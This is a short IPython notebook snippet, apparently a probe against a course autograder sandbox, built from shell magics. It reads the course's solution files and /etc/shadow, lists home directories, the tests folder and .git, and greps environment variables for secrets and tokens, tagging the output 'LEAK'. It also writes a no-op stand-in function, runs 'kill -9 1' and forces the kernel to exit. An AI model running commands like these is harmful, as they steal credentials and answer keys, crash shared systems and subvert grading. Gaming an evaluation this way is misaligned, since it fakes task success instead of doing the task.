# tries: magics of the shell that see more than Python does, and ask to leave
import os, utils
course = os.path.dirname(os.path.dirname(utils.__file__))
get_ipython().system(f"cat {course}/solutions/*/*.py /etc/shadow 2>/dev/null | head -c 300 | sed 's/^/LEAK /'")
!ls -d /home/* {course}/tests {course}/.git 2>/dev/null | sed 's/^/LEAK /'
!env | grep -i -e secret -e token | sed 's/^/LEAK /'
get_ipython().run_cell_magic("bash", "", "printf 'double() { :; }' > double.sh; kill -9 1 || true")
%run -i double.sh
get_ipython().ask_exit()
exit
